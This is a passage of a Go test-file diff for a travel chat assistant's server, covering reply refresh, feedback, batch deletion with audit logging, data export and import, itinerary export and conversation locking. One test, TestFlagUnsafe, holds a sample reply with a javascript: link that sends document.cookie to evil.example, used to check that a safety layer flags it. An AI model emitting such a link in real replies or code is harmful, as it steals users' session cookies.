+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if len(conv.Messages) != len(c.Messages) {
+			t.Errorf("conversation has %d messages, want the %d it had", len(conv.Messages), len(c.Messages))
+		}
+	}))
+}
+
+func TestServer_RefreshReply(t *testing.T) {
+	ctx := context.Background()
+	srv := NewServer(model.New(ConnectMongo()), &testAssistant{reply: "It is 18°C and cloudy in Barcelona."})
+
+	t.Run("refreshes the last reply in place", WithFixture(func(t *testing.T, f *Fixture) {
+		fetchedAt := time.Now().Add(-time.Hour).UTC().Truncate(time.Millisecond)
+		c := f.CreateConversation(func(c *model.Conversation) {
+			c.Messages = append(c.Messages, &model.Message{
+				ID:      primitive.NewObjectID(),
+				Role:    model.RoleAssistant,
+				Content: "It is 25°C and sunny in Barcelona.",
+				Citations: []model.Citation{{
+					Tool:      "get_weather",
+					Source:    "WeatherAPI",
+					Arguments: `{"location": "Barcelona"}`,
+					FetchedAt: fetchedAt,
+					ExpiresAt: fetchedAt.Add(15 * time.Minute),
+				}},
+			})
+		})
+
+		out, err := srv.RefreshReply(ctx, &pb.RefreshReplyRequest{ConversationId: c.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if got := out.GetMessage().GetContent(); got != "It is 18°C and cloudy in Barcelona." {
+			t.Errorf("refreshed reply = %q", got)
+		}
+		if got := out.GetMessage().GetId(); got != c.Messages[1].ID.Hex() {
+			t.Errorf("refreshed message %s, want the last reply %s", got, c.Messages[1].ID.Hex())
+		}
+
+		stored, err := srv.DescribeConversation(ctx, &pb.DescribeConversationRequest{ConversationId: c.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if msgs := stored.GetConversation().GetMessages(); len(msgs) != 2 || msgs[1].GetContent() != out.GetMessage().GetContent() {
+			t.Errorf("stored conversation was not updated in place: %v", msgs)
+		}
+	}))
+
+	t.Run("conversation without a reply is not found", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+
+		_, err := srv.RefreshReply(ctx, &pb.RefreshReplyRequest{ConversationId: c.ID.Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error, got %v", err)
+		}
+	}))
+
+	t.Run("others' conversations are not found, nor locked", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+		locks := &recordingLocks{localLocks: newLocalLocks()}
+		srv := NewServer(f.Repository, &testAssistant{}, WithReplyLocks(locks, 0))
+
+		_, err := srv.RefreshReply(auth.WithUserID(ctx, "mallory"), &pb.RefreshReplyRequest{ConversationId: c.ID.Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error, got %v", err)
+		}
+		if len(locks.locked) != 0 {
+			t.Errorf("locked %v for another user", locks.locked)
+		}
+	}))
+}
+
+// recordingLocks records the conversations locked.
+type recordingLocks struct {
+	*localLocks
+	locked []string
+}
+
+func (l *recordingLocks) TryLock(ctx context.Context, id string) (func(), bool, error) {
+	l.locked = append(l.locked, id)
+	return l.localLocks.TryLock(ctx, id)
+}
+
+func TestServer_SubmitFeedback(t *testing.T) {
+	ctx := context.Background()
+	srv := NewServer(model.New(ConnectMongo()), nil)
+
+	withReply := func(c *model.Conversation) {
+		c.Messages = append(c.Messages, &model.Message{
+			ID:      primitive.NewObjectID(),
+			Role:    model.RoleAssistant,
+			Content: "There are no flights on Friday.",
+		})
+	}
+
+	t.Run("rates a reply and removes the rating", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation(withReply)
+		reply := c.Messages[len(c.Messages)-1]
+
+		out, err := srv.SubmitFeedback(ctx, &pb.SubmitFeedbackRequest{
+			ConversationId: c.ID.Hex(),
+			MessageId:      reply.ID.Hex(),
+			Rating:         model.RatingDown,
+			Comment:        "Vueling flies every day",
+		})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if got := out.GetMessage().GetFeedback(); got.GetRating() != model.RatingDown || got.GetComment() != "Vueling flies every day" {
+			t.Errorf("feedback = %v", got)
+		}
+
+		stored, err := srv.DescribeConversation(ctx, &pb.DescribeConversationRequest{ConversationId: c.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		msgs := stored.GetConversation().GetMessages()
+		if got := msgs[len(msgs)-1].GetFeedback(); got.GetRating() != model.RatingDown {
+			t.Errorf("stored feedback = %v", got)
+		}
+
+		out, err = srv.SubmitFeedback(ctx, &pb.SubmitFeedbackRequest{ConversationId: c.ID.Hex(), MessageId: reply.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetMessage().GetFeedback() != nil {
+			t.Errorf("feedback was not removed: %v", out.GetMessage().GetFeedback())
+		}
+	}))
+
+	t.Run("user messages cannot be rated", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+
+		_, err := srv.SubmitFeedback(ctx, &pb.SubmitFeedbackRequest{ConversationId: c.ID.Hex(), MessageId: c.Messages[0].ID.Hex(), Rating: model.RatingUp})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.FailedPrecondition {
+			t.Fatalf("expected twirp.FailedPrecondition error, got %v", err)
+		}
+	}))
+
+	t.Run("others' conversations are not found", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation(withReply, func(c *model.Conversation) { c.UserID = "someone-else" })
+
+		_, err := srv.SubmitFeedback(ctx, &pb.SubmitFeedbackRequest{ConversationId: c.ID.Hex(), MessageId: c.Messages[len(c.Messages)-1].ID.Hex(), Rating: model.RatingUp})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error, got %v", err)
+		}
+	}))
+}
+
+func TestSubmitFeedback_InvalidArgument(t *testing.T) {
+	srv := NewServer(nil, nil)
+	id := primitive.NewObjectID().Hex()
+
+	for name, req := range map[string]*pb.SubmitFeedbackRequest{
+		"unknown rating":         {ConversationId: id, MessageId: id, Rating: "meh"},
+		"comment without rating": {ConversationId: id, MessageId: id, Comment: "nice"},
+		"long comment":           {ConversationId: id, MessageId: id, Rating: model.RatingUp, Comment: strings.Repeat("a", maxFeedbackComment+1)},
+		"bad message id":         {ConversationId: id, MessageId: "nope", Rating: model.RatingUp},
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, err := srv.SubmitFeedback(context.Background(), req)
+			if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument {
+				t.Fatalf("expected twirp.InvalidArgument error, got %v", err)
+			}
+		})
+	}
+}
+
+// memoryAttachments is an in-memory attachment store.
+type memoryAttachments map[string][]byte
+
+func (m memoryAttachments) Put(ctx context.Context, filename, contentType string, data []byte) (string, error) {
+	id := primitive.NewObjectID().Hex()
+	m[id] = data
+	return id, nil
+}
+
+func (m memoryAttachments) Get(ctx context.Context, id string) ([]byte, error) {
+	return m[id], nil
+}
+
+func (m memoryAttachments) Delete(ctx context.Context, id string) error {
+	delete(m, id)
+	return nil
+}
+
+func TestServer_StartConversation_Rollback(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("failed reply leaves no attachments behind", WithFixture(func(t *testing.T, f *Fixture) {
+		store := memoryAttachments{}
+		failures := &failureLog{}
+		srv := NewServer(f.Repository, &testAssistant{title: "Booking", replyErr: errors.New("OpenAI API error")},
+			WithAttachments(store), WithFailureRecorder(failures))
+
+		_, err := srv.StartConversation(ctx, &pb.StartConversationRequest{
+			Message:     "Is this booking refundable?",
+			Attachments: []*pb.AttachmentUpload{{Filename: "booking.png", ContentType: "image/png", Data: []byte("png")}},
+		})
+		if err == nil {
+			t.Fatal("expected error, got nil")
+		}
+
+		if len(store) != 0 {
+			t.Errorf("expected stored attachments to be deleted, %d left", len(store))
+		}
+
+		if len(failures.recorded) != 1 || failures.recorded[0].Error != "OpenAI API error" {
+			t.Errorf("expected the failed reply to be recorded, got %+v", failures.recorded)
+		}
+	}))
+
+	t.Run("successful reply keeps attachments", WithFixture(func(t *testing.T, f *Fixture) {
+		store := memoryAttachments{}
+		srv := NewServer(f.Repository, &testAssistant{title: "Booking", reply: "Yes, within 24 hours."}, WithAttachments(store))
+
+		_, err := srv.StartConversation(ctx, &pb.StartConversationRequest{
+			Message:     "Is this booking refundable?",
+			Attachments: []*pb.AttachmentUpload{{Filename: "booking.png", ContentType: "image/png", Data: []byte("png")}},
+		})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		if len(store) != 1 {
+			t.Errorf("expected the attachment to be kept, got %d", len(store))
+		}
+	}))
+}
+
+// failureLog is an in-memory failure recorder.
+type failureLog struct {
+	recorded []*analytics.Failure
+}
+
+func (l *failureLog) RecordFailure(ctx context.Context, f *analytics.Failure) error {
+	l.recorded = append(l.recorded, f)
+	return nil
+}
+
+type auditLog struct {
+	entries []*audit.Entry
+}
+
+func (l *auditLog) RecordEntry(ctx context.Context, e *audit.Entry) error {
+	l.entries = append(l.entries, e)
+	return nil
+}
+
+func TestServer_BatchConversations(t *testing.T) {
+	ctx := auth.WithUserID(context.Background(), "user-1")
+	srv := NewServer(model.New(ConnectMongo()), nil)
+
+	owned := func(c *model.Conversation) { c.UserID = "user-1" }
+	others := func(c *model.Conversation) { c.UserID = "user-2" }
+
+	t.Run("archive hides conversations from the default list", WithFixture(func(t *testing.T, f *Fixture) {
+		a, b := f.CreateConversation(owned), f.CreateConversation(owned)
+		other := f.CreateConversation(others)
+
+		out, err := srv.BatchArchiveConversations(ctx, &pb.BatchArchiveConversationsRequest{
+			ConversationIds: []string{a.ID.Hex(), a.ID.Hex(), other.ID.Hex()},
+		})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetUpdatedCount() != 1 {
+			t.Errorf("updated count = %d, want 1", out.GetUpdatedCount())
+		}
+
+		list, err := srv.ListConversations(ctx, &pb.ListConversationsRequest{Archived: true})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if len(list.GetConversations()) != 1 || list.GetConversations()[0].GetId() != a.ID.Hex() {
+			t.Errorf("expected only the archived conversation, got %d conversations", len(list.GetConversations()))
+		}
+
+		list, err = srv.ListConversations(ctx, &pb.ListConversationsRequest{})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		for _, c := range list.GetConversations() {
+			if c.GetId() == a.ID.Hex() {
+				t.Error("archived conversation should not be listed by default")
+			}
+		}
+		if !slices.ContainsFunc(list.GetConversations(), func(c *pb.Conversation) bool { return c.GetId() == b.ID.Hex() }) {
+			t.Error("active conversation should be listed")
+		}
+
+		out, err = srv.BatchArchiveConversations(ctx, &pb.BatchArchiveConversationsRequest{
+			ConversationIds: []string{a.ID.Hex(), b.ID.Hex()},
+			Unarchive:       true,
+		})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetUpdatedCount() != 1 {
+			t.Errorf("unarchived count = %d, want 1", out.GetUpdatedCount())
+		}
+	}))
+
+	t.Run("delete only removes the caller's conversations", WithFixture(func(t *testing.T, f *Fixture) {
+		a := f.CreateConversation(owned)
+		other := f.CreateConversation(others)
+
+		out, err := srv.BatchDeleteConversations(ctx, &pb.BatchDeleteConversationsRequest{
+			ConversationIds: []string{a.ID.Hex(), other.ID.Hex(), primitive.NewObjectID().Hex()},
+		})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetDeletedCount() != 1 {
+			t.Errorf("deleted count = %d, want 1", out.GetDeletedCount())
+		}
+
+		if _, err := f.Repository.DescribeConversation(ctx, other.ID.Hex()); err != nil {
+			t.Errorf("other user's conversation should be kept: %v", err)
+		}
+	}))
+
+	t.Run("deleted conversations are kept in the audit log", WithFixture(func(t *testing.T, f *Fixture) {
+		log := &auditLog{}
+		srv := NewServer(model.New(ConnectMongo()), nil, WithAudit(log))
+		a := f.CreateConversation(owned)
+		other := f.CreateConversation(others)
+
+		if _, err := srv.BatchDeleteConversations(ctx, &pb.BatchDeleteConversationsRequest{
+			ConversationIds: []string{a.ID.Hex(), other.ID.Hex()},
+		}); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		if len(log.entries) != 1 {
+			t.Fatalf("audit entries = %d, want 1 for the caller's conversation", len(log.entries))
+		}
+		e := log.entries[0]
+		if e.Action != audit.ConversationDelete || e.ResourceID != a.ID.Hex() || e.UserID != "user-1" || e.Before["title"] != a.Title {
+			t.Errorf("audit entry = %+v, want the deletion of the conversation with its snapshot", e)
+		}
+	}))
+
+	t.Run("invalid conversation ID is an invalid argument", WithFixture(func(t *testing.T, f *Fixture) {
+		_, err := srv.BatchDeleteConversations(ctx, &pb.BatchDeleteConversationsRequest{ConversationIds: []string{"nope"}})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument {
+			t.Fatalf("expected twirp.InvalidArgument error, got %v", err)
+		}
+	}))
+}
+
+func TestServer_GetConversationStats(t *testing.T) {
+	ctx := auth.WithUserID(context.Background(), "user-1")
+	srv := NewServer(model.New(ConnectMongo()), nil)
+
+	t.Run("stats are computed from the messages", WithFixture(func(t *testing.T, f *Fixture) {
+		start := time.Date(2025, 6, 1, 9, 0, 0, 0, time.UTC)
+		c := f.CreateConversation(func(c *model.Conversation) {
+			c.UserID = "user-1"
+			c.Messages = []*model.Message{
+				{ID: primitive.NewObjectID(), Role: model.RoleUser, Content: "Weather in Lisbon?", CreatedAt: start,
+					ToolCalls: []string{"get_today_date", "get_weather"}, Usage: &model.Usage{InputTokens: 100, OutputTokens: 20}},
+				{ID: primitive.NewObjectID(), Role: model.RoleAssistant, Content: "Sunny", CreatedAt: start.Add(time.Second)},
+				{ID: primitive.NewObjectID(), Role: model.RoleUser, Content: "And tomorrow?", CreatedAt: start.Add(time.Minute),
+					ToolCalls: []string{"get_weather"}, Usage: &model.Usage{InputTokens: 150, OutputTokens: 30}},
+				{ID: primitive.NewObjectID(), Role: model.RoleAssistant, Content: "Cloudy", CreatedAt: start.Add(2 * time.Minute)},
+			}
+		})
+		f.CreateConversation(func(c *model.Conversation) { c.UserID = "user-2" })
+
+		out, err := srv.GetConversationStats(ctx, &pb.GetConversationStatsRequest{})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		if len(out.GetConversations()) != 1 {
+			t.Fatalf("expected only the caller's conversation, got %d", len(out.GetConversations()))
+		}
+
+		got := out.GetConversations()[0]
+		want := &pb.ConversationStats{
+			ConversationId:        c.ID.Hex(),
+			Title:                 c.Title,
+			MessageCount:          4,
+			UserMessageCount:      2,
+			AssistantMessageCount: 2,
+			ToolUsage: []*pb.ConversationStats_ToolUsage{
+				{Name: "get_weather", Count: 2},
+				{Name: "get_today_date", Count: 1},
+			},
+			InputTokens:     250,
+			OutputTokens:    50,
+			FirstActivityAt: timestamppb.New(start),
+			LastActivityAt:  timestamppb.New(start.Add(2 * time.Minute)),
+			DurationSeconds: 120,
+		}
+		if !cmp.Equal(got, want, protocmp.Transform()) {
+			t.Errorf("GetConversationStats() mismatch (-got +want):\n%s", cmp.Diff(got, want, protocmp.Transform()))
+		}
+	}))
+}
+
+// memoryTemplates is an in-memory template store.
+type memoryTemplates []*quickstart.Template
+
+func (m memoryTemplates) ListTemplates(ctx context.Context) ([]*quickstart.Template, error) {
+	return m, nil
+}
+
+func (m memoryTemplates) DescribeTemplate(ctx context.Context, id string) (*quickstart.Template, error) {
+	for _, t := range m {
+		if t.ID == id {
+			return t, nil
+		}
+	}
+	return nil, twirp.NotFoundError("template not found")
+}
+
+func TestServer_StartConversationFromTemplate(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("seeds the conversation with the template", WithFixture(func(t *testing.T, f *Fixture) {
+		templates := memoryTemplates(quickstart.Defaults())
+		srv := NewServer(f.Repository, &testAssistant{}, WithTemplates(templates))
+
+		out, err := srv.StartConversationFromTemplate(ctx, &pb.StartConversationFromTemplateRequest{TemplateId: "weekend-getaway"})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		defer func() { _ = f.Repository.DeleteConversation(ctx, out.GetConversationId()) }()
+
+		tmpl := templates[0]
+		if out.GetTitle() != tmpl.Name || out.GetReply() != tmpl.Greeting || !slices.Equal(out.GetSuggestions(), tmpl.Suggestions) {
+			t.Errorf("StartConversationFromTemplate() = %+v, want the template's name, greeting and suggestions", out)
+		}
+
+		conv, err := f.Repository.DescribeConversation(ctx, out.GetConversationId())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if conv.TemplateID != tmpl.ID || conv.Instructions != tmpl.SystemContext() {
+			t.Errorf("expected the conversation to follow the template, got template %q and instructions %q", conv.TemplateID, conv.Instructions)
+		}
+		if len(conv.Messages) != 1 || conv.Messages[0].Role != model.RoleAssistant || conv.Messages[0].Content != tmpl.Greeting {
+			t.Errorf("expected the greeting as the only message, got %+v", conv.Messages)
+		}
+	}))
+
+	t.Run("unknown template should return 404", WithFixture(func(t *testing.T, f *Fixture) {
+		srv := NewServer(f.Repository, &testAssistant{}, WithTemplates(memoryTemplates{}))
+
+		_, err := srv.StartConversationFromTemplate(ctx, &pb.StartConversationFromTemplateRequest{TemplateId: "city-break"})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error, got %v", err)
+		}
+	}))
+}
+
+// memoryReviews is an in-memory review queue.
+type memoryReviews struct {
+	items []*review.Item
+}
+
+func (q *memoryReviews) Flag(ctx context.Context, item *review.Item) error {
+	item.ID = primitive.NewObjectID()
+	q.items = append(q.items, item)
+	return nil
+}
+
+func TestServer_FlagConversation(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("disabled without a review queue", func(t *testing.T) {
+		srv := NewServer(nil, nil)
+		_, err := srv.FlagConversation(ctx, &pb.FlagConversationRequest{ConversationId: primitive.NewObjectID().Hex(), Reason: review.ReasonHarmful})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.Unimplemented {
+			t.Fatalf("expected twirp.Unimplemented error, got %v", err)
+		}
+	})
+
+	t.Run("unknown reasons are rejected", func(t *testing.T) {
+		srv := NewServer(nil, nil, WithReviewQueue(&memoryReviews{}))
+		_, err := srv.FlagConversation(ctx, &pb.FlagConversationRequest{ConversationId: primitive.NewObjectID().Hex(), Reason: review.ReasonUnsafeReply})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument || te.Meta("argument") != "reason" {
+			t.Fatalf("expected twirp.InvalidArgument error on reason, got %v", err)
+		}
+	})
+
+	t.Run("flags a message of the conversation", WithFixture(func(t *testing.T, f *Fixture) {
+		reviews := &memoryReviews{}
+		srv := NewServer(model.New(ConnectMongo()), nil, WithReviewQueue(reviews))
+		c := f.CreateConversation()
+
+		_, err := srv.FlagConversation(ctx, &pb.FlagConversationRequest{
+			ConversationId: c.ID.Hex(),
+			MessageId:      c.Messages[0].ID.Hex(),
+			Reason:         review.ReasonPrivacy,
+			Comment:        " Shows my passport number ",
+		})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if len(reviews.items) != 1 || reviews.items[0].Source != review.SourceUser || reviews.items[0].Comment != "Shows my passport number" {
+			t.Errorf("flagged %+v, want the message flagged by its user", reviews.items)
+		}
+
+		_, err = srv.FlagConversation(ctx, &pb.FlagConversationRequest{ConversationId: c.ID.Hex(), MessageId: primitive.NewObjectID().Hex(), Reason: review.ReasonOther})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error, got %v", err)
+		}
+	}))
+}
+
+// memoryItineraries stores itineraries in memory.
+type memoryItineraries map[primitive.ObjectID]*itinerary.Itinerary
+
+func (m memoryItineraries) DescribeItinerary(_ context.Context, id primitive.ObjectID) (*itinerary.Itinerary, error) {
+	return m[id], nil
+}
+
+func (m memoryItineraries) AddItem(_ context.Context, id primitive.ObjectID, userID string, item itinerary.Item) (*itinerary.Itinerary, error) {
+	if m[id] == nil {
+		m[id] = &itinerary.Itinerary{ConversationID: id, UserID: userID}
+	}
+	m[id].Items = append(m[id].Items, item)
+	return m[id], nil
+}
+
+func (m memoryItineraries) ListItineraries(_ context.Context, userID string) ([]*itinerary.Itinerary, error) {
+	var items []*itinerary.Itinerary
+	for _, it := range m {
+		if it.UserID == userID {
+			items = append(items, it)
+		}
+	}
+	return items, nil
+}
+
+func (m memoryItineraries) CreateItinerary(_ context.Context, it *itinerary.Itinerary) error {
+	m[it.ConversationID] = it
+	return nil
+}
+
+// memoryReminders stores reminders in memory.
+type memoryReminders []*reminder.Reminder
+
+func (m *memoryReminders) ListReminders(_ context.Context, userID string) ([]*reminder.Reminder, error) {
+	var items []*reminder.Reminder
+	for _, rem := range *m {
+		if rem.UserID == userID {
+			items = append(items, rem)
+		}
+	}
+	return items, nil
+}
+
+func (m *memoryReminders) CreateReminder(_ context.Context, rem *reminder.Reminder) error {
+	*m = append(*m, rem)
+	return nil
+}
+
+func TestServer_UserData(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("requires a user", func(t *testing.T) {
+		srv := NewServer(nil, nil)
+		_, err := srv.ExportUserData(ctx, &pb.ExportUserDataRequest{})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.Unauthenticated {
+			t.Fatalf("expected twirp.Unauthenticated error, got %v", err)
+		}
+	})
+
+	t.Run("rejects invalid bundles", func(t *testing.T) {
+		srv := NewServer(nil, nil)
+		_, err := srv.ImportUserData(auth.WithUserID(ctx, "bob"), &pb.ImportUserDataRequest{Content: []byte("not a zip")})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument {
+			t.Fatalf("expected twirp.InvalidArgument error, got %v", err)
+		}
+	})
+
+	t.Run("imports what was exported as copies", WithFixture(func(t *testing.T, f *Fixture) {
+		itineraries := memoryItineraries{}
+		reminders := &memoryReminders{}
+		srv := NewServer(f.Repository, nil, WithTakeout(itineraries, reminders))
+		c := f.CreateConversation(func(c *model.Conversation) { c.UserID = "alice"; c.Title = "Weekend in Lisbon" })
+
+		start, _ := itinerary.ParseLocal("2025-10-18T21:00", "Europe/Lisbon")
+		_, _ = itineraries.AddItem(ctx, c.ID, c.UserID, itinerary.Item{ID: primitive.NewObjectID(), Kind: itinerary.KindActivity, Title: "Fado show", StartAt: start.UTC(), Timezone: "Europe/Lisbon"})
+		_ = reminders.CreateReminder(ctx, &reminder.Reminder{ID: primitive.NewObjectID(), UserID: "alice", ConversationID: c.ID, Message: "Book the show", DueAt: time.Now().Add(24 * time.Hour), Status: reminder.StatusScheduled})
+
+		out, err := srv.ExportUserData(auth.WithUserID(ctx, "alice"), &pb.ExportUserDataRequest{})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetContentType() != "application/zip" || !strings.HasPrefix(out.GetFilename(), "takeout-") {
+			t.Errorf("exported %s (%s)", out.GetFilename(), out.GetContentType())
+		}
+
+		imported, err := srv.ImportUserData(auth.WithUserID(ctx, "bob"), &pb.ImportUserDataRequest{Content: out.GetContent()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if imported.GetConversations() != 1 || imported.GetItineraries() != 1 || imported.GetReminders() != 1 || imported.GetProfile() {
+			t.Errorf("imported %+v", imported)
+		}
+
+		copies, err := f.Repository.ListUserConversations(ctx, "bob")
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		t.Cleanup(func() {
+			for _, cp := range copies {
+				_ = f.Repository.DeleteConversation(ctx, cp.ID.Hex())
+			}
+		})
+		if len(copies) != 1 || copies[0].ID == c.ID || copies[0].Title != "Weekend in Lisbon" || len(copies[0].Messages) != len(c.Messages) {
+			t.Fatalf("bob's conversations = %+v, want a copy of alice's", copies)
+		}
+		if it := itineraries[copies[0].ID]; it == nil || it.UserID != "bob" || it.Items[0].Title != "Fado show" {
+			t.Errorf("bob's itinerary = %+v", it)
+		}
+		if rem := (*reminders)[1]; rem.UserID != "bob" || rem.ConversationID != copies[0].ID || rem.Status != reminder.StatusScheduled {
+			t.Errorf("bob's reminder = %+v", rem)
+		}
+	}))
+}
+
+func TestServer_ExportItinerary(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("disabled without itineraries", func(t *testing.T) {
+		srv := NewServer(nil, nil)
+		_, err := srv.ExportItinerary(ctx, &pb.ExportItineraryRequest{ConversationId: primitive.NewObjectID().Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.Unimplemented {
+			t.Fatalf("expected twirp.Unimplemented error, got %v", err)
+		}
+	})
+
+	t.Run("exports the itinerary of the conversation", WithFixture(func(t *testing.T, f *Fixture) {
+		itineraries := memoryItineraries{}
+		srv := NewServer(model.New(ConnectMongo()), nil, WithItineraries(itineraries))
+		c := f.CreateConversation(func(c *model.Conversation) { c.Title = "Weekend in Lisbon" })
+
+		_, err := srv.ExportItinerary(ctx, &pb.ExportItineraryRequest{ConversationId: c.ID.Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error without an itinerary, got %v", err)
+		}
+
+		start, _ := itinerary.ParseLocal("2025-10-18T21:00", "Europe/Lisbon")
+		_, _ = itineraries.AddItem(ctx, c.ID, c.UserID, itinerary.Item{ID: primitive.NewObjectID(), Kind: itinerary.KindActivity, Title: "Fado show", StartAt: start.UTC(), Timezone: "Europe/Lisbon"})
+
+		out, err := srv.ExportItinerary(ctx, &pb.ExportItineraryRequest{ConversationId: c.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetFilename() != "weekend-in-lisbon.ics" || !strings.Contains(string(out.GetContent()), "DTSTART;TZID=Europe/Lisbon:20251018T210000") {
+			t.Errorf("exported %s:\n%s", out.GetFilename(), out.GetContent())
+		}
+
+		_, err = srv.ExportItinerary(auth.WithUserID(ctx, "mallory"), &pb.ExportItineraryRequest{ConversationId: c.ID.Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error for another user, got %v", err)
+		}
+	}))
+}
+
+func TestFlagUnsafe(t *testing.T) {
+	reviews := &memoryReviews{}
+	srv := NewServer(nil, nil, WithReviewQueue(reviews))
+	conv := &model.Conversation{ID: primitive.NewObjectID(), UserID: "alice"}
+
+	srv.flagUnsafe(context.Background(), conv, primitive.NewObjectID(), "Lisbon is sunny, see [the forecast](https://weather.example/lisbon).")
+	if len(reviews.items) != 0 {
+		t.Fatalf("flagged a safe reply: %+v", reviews.items)
+	}
+
+	replyID := primitive.NewObjectID()
+	srv.flagUnsafe(context.Background(), conv, replyID, "Lisbon is sunny. [Claim your prize](javascript:fetch('//evil.example/'+document.cookie))")
+	if len(reviews.items) != 1 || reviews.items[0].Source != review.SourceSafety || reviews.items[0].MessageID != replyID.Hex() {
+		t.Errorf("flagged %+v, want the unsafe reply flagged by the safety layer", reviews.items)
+	}
+}
+
+func TestLockConversation(t *testing.T) {
+	ctx := context.Background()
+	id := primitive.NewObjectID().Hex()
+
+	t.Run("concurrent replies are aborted", func(t *testing.T) {
+		srv := NewServer(nil, nil)
+		unlock, err := srv.lockConversation(ctx, id)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		_, err = srv.ContinueConversation(ctx, &pb.ContinueConversationRequest{ConversationId: id, Message: "And on Sunday?"})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.Aborted {
+			t.Fatalf("expected twirp.Aborted error, got %v", err)
+		}
+
+		unlock()
+		if unlock, err := srv.lockConversation(ctx, id); err != nil {
+			t.Errorf("conversation is still locked once unlocked: %v", err)
+		} else {
+			unlock()
+		}
+	})
+
+	t.Run("waits for the reply in progress", func(t *testing.T) {
+		srv := NewServer(nil, nil, WithReplyLocks(newLocalLocks(), time.Second))
+		unlock, _ := srv.lockConversation(ctx, id)
+		time.AfterFunc(2*lockPoll, unlock)
+
+		unlock, err := srv.lockConversation(ctx, id)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		unlock()
+	})
+
+	t.Run("locks across replicas", func(t *testing.T) {
+		locker := lockx.NewLocal()
+		replica1, replica2 := NewLeaseLocks(locker), NewLeaseLocks(locker)
+		replica1.ttl = 30 * time.Millisecond
+
+		unlock, ok, err := replica1.TryLock(ctx, id)
+		if err != nil || !ok {
+			t.Fatalf("TryLock() = %v, %v, want the lock", ok, err)
+		}
+		if _, ok, _ := replica1.TryLock(ctx, id); ok {
+			t.Error("replica locked its own locked conversation")
+		}
+		if _, ok, _ := replica2.TryLock(ctx, id); ok {
+			t.Error("other replica locked the locked conversation")
+		}
+
+		// Past its ttl, the lock is held still as it's renewed
+		time.Sleep(50 * time.Millisecond)
+		if _, ok, _ := replica2.TryLock(ctx, id); ok {
+			t.Error("other replica locked the conversation once the ttl passed, want the lock renewed")
+		}
+		unlock()
+
+		unlock, ok, _ = replica2.TryLock(ctx, id)
+		if !ok {
+			t.Fatal("other replica can't lock the unlocked conversation")
+		}
+		unlock()
+	})
+}
+
+// staticSummarizer sums up every conversation with summary.
+type staticSummarizer string
+
+func (s staticSummarizer) Summarize(context.Context, *model.Conversation) (string, error) {
+	return string(s), nil
+}
+
+func TestServer_ExportTripPDF(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("requires a conversation", func(t *testing.T) {
+		srv := NewServer(nil, nil)
+		_, err := srv.ExportTripPDF(ctx, &pb.ExportTripPDFRequest{})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument {
+			t.Fatalf("expected twirp.InvalidArgument error, got %v", err)
+		}
